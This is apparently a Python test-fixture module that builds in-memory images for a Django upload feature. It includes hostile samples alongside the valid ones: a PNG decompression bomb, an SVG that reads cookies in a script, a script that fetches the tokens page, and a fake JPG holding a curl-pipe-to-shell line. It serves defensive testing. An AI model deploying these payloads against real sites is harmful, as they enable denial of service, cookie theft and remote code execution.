"""Image files for upload tests, built in memory: honest ones and hostile ones.

Shared by every test of an image upload (avatars now, review photos later).
"""

import io
import struct
import zlib

from django.core.files.uploadedfile import SimpleUploadedFile
from PIL import ExifTags, Image


def image_bytes(*, size=(500, 300), image_format="PNG", colour=(40, 120, 80), **save) -> bytes:
    image = Image.new("RGB", size, colour)
    buffer = io.BytesIO()
    image.save(buffer, format=image_format, **save)
    return buffer.getvalue()


def upload(data: bytes, *, name: str = "avatar.png", content_type: str = "image/png"):
    return SimpleUploadedFile(name, data, content_type=content_type)


def _png_chunk(kind: bytes, data: bytes) -> bytes:
    return (
        struct.pack(">I", len(data))
        + kind
        + data
        + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)
    )


def flat_png(width: int, height: int, *, black_and_white: bool = False) -> bytes:
    """A valid one-colour PNG written by hand, so making it costs no decode and no big buffer.

    RGB by default (three bytes a pixel decoded: the 6,300² file is ~150 KB on disk and 119 MB
    decoded); black-and-white packs a bit a pixel so even 20,000² builds quickly, and Pillow
    still decodes it to a byte a pixel (400 MB).
    """
    if black_and_white:
        header = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
        row = bytes(1 + (width + 7) // 8)
    else:
        header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
        row = bytes(1 + width * 3)
    compressor = zlib.compressobj(6)
    parts = [compressor.compress(row) for _ in range(height)]
    parts.append(compressor.flush())
    return (
        b"\x89PNG\r\n\x1a\n"
        + _png_chunk(b"IHDR", header)
        + _png_chunk(b"IDAT", b"".join(parts))
        + _png_chunk(b"IEND", b"")
    )


def big_flat_png() -> bytes:
    """The 6,300×6,300 PNG of the report: ~150 KB that decodes to 119 MB (and more to resize)."""
    return flat_png(6300, 6300)


def png_bomb() -> bytes:
    """A 20,000×20,000 PNG: ~50 KB on disk, 400 megapixels."""
    return flat_png(20_000, 20_000, black_and_white=True)


SVG_WITH_SCRIPT = (
    b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
    b"<script>alert(document.cookie)</script><rect width='10' height='10'/></svg>"
)
SCRIPT_NAMED_JPG = b"<script>fetch('/settings/tokens/').then(r => r.text())</script>"
SHELL_SCRIPT_NAMED_JPG = b"#!/bin/sh\ncurl https://example.invalid | sh\n"

GPS_LATITUDE = (56.0, 57.0, 12.34)  # Riga


def jpeg_with_gps(*, size=(400, 200), orientation: int | None = None) -> bytes:
    """A JPEG whose EXIF says where it was taken (and, optionally, how it is rotated).

    Left half red, right half blue, so a test can tell whether the orientation was applied.
    """
    image = Image.new("RGB", size, (0, 0, 255))
    image.paste((255, 0, 0), (0, 0, size[0] // 2, size[1]))
    exif = Image.Exif()
    exif[ExifTags.Base.Make] = "TestCam"
    if orientation:
        exif[ExifTags.Base.Orientation] = orientation
    gps = exif.get_ifd(ExifTags.IFD.GPSInfo)
    gps[ExifTags.GPS.GPSLatitudeRef] = "N"
    gps[ExifTags.GPS.GPSLatitude] = GPS_LATITUDE
    gps[ExifTags.GPS.GPSLongitudeRef] = "E"
    gps[ExifTags.GPS.GPSLongitude] = (24.0, 6.0, 0.0)
    buffer = io.BytesIO()
    image.save(buffer, format="JPEG", exif=exif, quality=95)
    return buffer.getvalue()
